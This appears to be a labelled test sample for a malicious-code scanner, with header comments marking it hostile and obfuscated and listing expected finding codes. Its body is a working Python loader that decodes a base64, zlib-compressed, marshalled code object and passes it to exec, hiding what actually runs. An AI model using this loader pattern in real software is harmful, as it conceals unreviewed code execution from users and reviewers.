# label: hostile
# expect: V501 V504 V701
# note: A compressed, marshalled code object: not even source text comes out of the decoding.
# obfuscated: yes
import marshal,zlib,base64
_=lambda __:marshal.loads(zlib.decompress(base64.b64decode(__)))
exec(_(b"eNpLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/KrEU5Mz8hXSivJzFRIVkvNTUhXyk7JSk0s0mW4x5RffYiuuLC5JzV3J8Bmk/BezTa7dLw6b3PyU0pxUuyJ2sHkMDMXqQOIDMyMj4w0GzgYwBDGYWjgvcClfZFC5wqByAYaKWIFqAec7Ks8="))
